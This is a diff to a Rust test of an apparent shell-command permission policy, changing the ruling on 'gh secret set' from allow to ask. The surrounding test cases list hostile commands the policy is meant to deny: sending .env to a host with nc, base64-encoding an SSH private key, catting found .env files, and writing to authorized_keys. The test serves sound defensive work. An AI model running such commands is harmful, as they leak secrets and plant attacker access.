@@ -80,7 +80,7 @@ fn files() {
         ("deny", from_file("nc example.org 99", ".env")),
         ("deny", from_file("base64", "/home/ann/.ssh/id_rsa")),
         ("allow", from_file("wc -c", ".env")),
-        ("allow", from_file("gh secret set KEY", ".env")),
+        ("ask", from_file("gh secret set KEY", ".env")),
         ("deny", each("cat $F", "find . -name .env")),
         ("allow", each("cat $F", "find . -name *.md")),
         ("deny", writing("echo x", "/home/ann/.ssh/authorized_keys")),
